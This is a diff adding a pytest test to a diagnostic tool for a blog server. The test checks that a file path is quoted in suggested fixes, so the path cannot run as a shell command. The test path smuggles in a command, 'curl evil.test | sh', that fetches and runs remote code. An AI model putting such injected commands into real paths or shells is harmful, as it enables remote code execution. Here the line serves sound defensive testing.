@@ -358,6 +358,13 @@ def test_a_key_is_measured_and_not_told(value: str | bytes, weak: str) -> None:
     assert text not in str({name: item for name, item in said.items() if name != "name"})
 
 
+@pytest.mark.parametrize("kind", ["world-writable", "own-code", "foreign"])
+def test_the_name_of_a_file_is_no_command(kind: str) -> None:
+    path = "/srv/blog/shared/a; curl evil.test | sh #"
+    findings, dummy = diagnose(changed("files", [{**file(kind)[0], "path": path}]))
+    assert [f" '{path}'" in finding.fix for finding in findings] == [True]
+
+
 def test_the_report() -> None:
     finding = Finding("error", "blog", "debug-on", "seen\x1b[2J", "do this")
     said: dict[str, Any] = {
